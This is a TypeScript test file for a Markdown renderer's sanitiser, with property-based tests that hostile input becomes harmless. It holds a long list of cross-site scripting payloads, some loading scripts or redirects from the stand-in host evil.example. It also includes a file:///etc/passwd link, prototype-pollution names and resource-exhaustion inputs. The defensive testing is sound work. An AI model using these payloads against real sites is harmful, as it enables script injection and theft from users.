import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { renderMarkdown, type LinkTarget } from '#app/adapters/render.server.ts';
import { lineSoup, structuredDocument } from '../core/markdown-generators.ts';
import { expectHarmless } from './render-harmless.ts';

const resolve = ({ target }: { target: string }): LinkTarget =>
  target.length % 3 === 0 ? { state: 'missing' } : { state: 'found', href: `/entries/${encodeURIComponent(target)}`, title: target };

async function render(body: string): Promise<string> {
  return (await renderMarkdown(body, { resolve, assetBase: '/files/notes/' })).html;
}

const ATTACKS = [
  '<script>alert(1)</script>',
  'a <script src="https://evil.example/x.js"></script> b',
  '<SCRIPT\n>alert(1)</SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<p onclick="alert(1)">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<svg onload=alert(1)><g/onload=alert(2)></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="x"></object><embed src="x">',
  '<style>body{display:none}</style><link rel=stylesheet href=//evil.example>',
  '<base href="//evil.example"><meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action="//evil.example"><input name=x><button formaction=javascript:alert(1)>',
  '<div><b><i>never closed <table><tr><td></div></p></td>',
  '<!--><script>alert(1)</script>-->',
  '<!-- a -- > <img src=x onerror=alert(1)> -->',
  '<![CDATA[<script>alert(1)</script>]]><?php echo 1 ?><!DOCTYPE html>',
  '[x](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [x](vbscript:x) [x](data:text/html,<script>alert(1)</script>)',
  '[x](<java\tscript:alert(1)>) [x](&#106;avascript:alert(1)) [x](ja&Tab;vascript:alert(1)) [x](&#x1;javascript:alert(1))',
  '[x](javascript&colon;alert(1)) [x]( javascript:alert(1)) [x](\\javascript:alert(1)) [x](file:///etc/passwd)',
  '<javascript:alert(1)> <data:text/html,x> <JAVASCRIPT:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x] ![x]',
  '![x](javascript:alert(1)) ![x](data:image/svg+xml;base64,PHN2Zy8+) ![x](//evil.example/x.png) ![x](http://evil.example/x.png)',
  '![x](\\\\\\\\evil.example\\\\x.png) ![x](/\\evil.example) ![x](..//..//../../../../etc/x.png) ![x](x.svg)',
  '![" onerror="alert(1)](x.png) ![x](x.png "\\" onerror=\\"alert(1)")',
  '[" onmouseover="alert(1)](https://a.b "\' onmouseover=\'alert(1)")',
  '[[" onmouseover="alert(1)|<img src=x onerror=alert(1)>]] [[<script>alert(1)</script>]] [[javascript:alert(1)]]',
  '[[__proto__]] [[constructor|toString]] [__proto__](hasOwnProperty) [^__proto__]\n\n[^__proto__]: x\n[__proto__]: y',
  '# __proto__\n# constructor\n# __proto__\n# <img src=x onerror=alert(1)>\n# " onclick="x',
  '```html"><script>alert(1)</script>\nx\n```\n\n```__proto__\nx\n```\n\n```constructor\nx\n```',
  '```html\n<script>alert("</code></pre><script>")</script>\n```',
  '`<img src=x onerror=alert(1)>` **<b onclick=x>** ~~<s>~~',
  '| <script> | " onclick="x |\n|---|---|\n| <img src=x onerror=alert(1)> | `</td><script>` |',
  '- [ ] <img src=x onerror=alert(1)> " onfocus="x\n- [x] </li></ul><script>',
  '[^"onclick="x]\n\n[^"onclick="x]: y\n',
  '\u0000<scr\u0000ipt>alert(1)</script> \u202e',
];

describe('hostile Markdown', () => {
  it.each(ATTACKS)('becomes harmless: %s', async (attack) => {
    expectHarmless(await render(attack));
    expectHarmless(await render(`> - # ${attack.replaceAll('\n', '\n>   ')}\n`));
  });

  it('becomes harmless, however its pieces are put together', async () => {
    const attacks = fc.array(fc.constantFrom(...ATTACKS), { minLength: 1, maxLength: 4 }).map((parts) => parts.join(''));
    const cut = fc.tuple(attacks, fc.nat(40), fc.nat(40)).map(([text, from, rest]) => text.slice(from, text.length - rest));
    await fc.assert(fc.asyncProperty(fc.oneof(attacks, cut, lineSoup, structuredDocument), async (text) => expectHarmless(await render(text))), {
      numRuns: 300,
    });
  });

  it('shows what it does not obey, so that nothing is lost', async () => {
    expect(await render('Maps of List<String>, and <b onclick="x">bold</b>')).toContain('Maps of List&#x3C;String>, and &#x3C;b onclick="x">bold&#x3C;/b>');
    expect(await render('<details>\n<summary>More</summary>\n</details>')).toContain('&#x3C;summary>More&#x3C;/summary>');
    expect(await render('a <!-- secret --> b\n\n<!--\nsecret\n-->')).not.toContain('secret');
  });
});

const ENDLESS = {
  'a megabyte of open brackets': '[['.repeat(500_000),
  'quotes in quotes': `${'> '.repeat(1000)}a`,
  'quotes in quotes, just within what is parsed': `${'> '.repeat(140)}a`,
  'lists in lists': Array.from({ length: 1000 }, (_, at) => `${' '.repeat(2 * at)}- a`).join('\n'),
  'lists in lists, just within what is parsed': Array.from({ length: 140 }, (_, at) => `${' '.repeat(2 * at)}- a`).join('\n'),
  'emphasis in emphasis': `${'*a '.repeat(1000)}b${'*'.repeat(1000)}`,
  'emphasis in emphasis, just within what is parsed': `${'*a '.repeat(990)}b${'*'.repeat(990)}`,
  'strong in strong': `${'**'.repeat(495)}a${'**'.repeat(495)}`,
  'links in links': `${'['.repeat(900)}a${'](b.md)'.repeat(900)}`,
  'a footnote called very often': `${'[^1] '.repeat(600)}\n\n[^1]: a [^1]`,
  'ten thousand headings of one name': '# a\n'.repeat(10_000),
  'a very long block of code': `\`\`\`ts\n${'const a = 1;\n'.repeat(30_000)}\`\`\``,
};

describe('endless Markdown', () => {
  it.each(Object.entries(ENDLESS))('of %s comes to an end', async (_name, body) => {
    const html = await render(body);
    expect(html.length).toBeGreaterThan(0);
    expect(html.length).toBeLessThan(100 * body.length + 1000);
  });
});
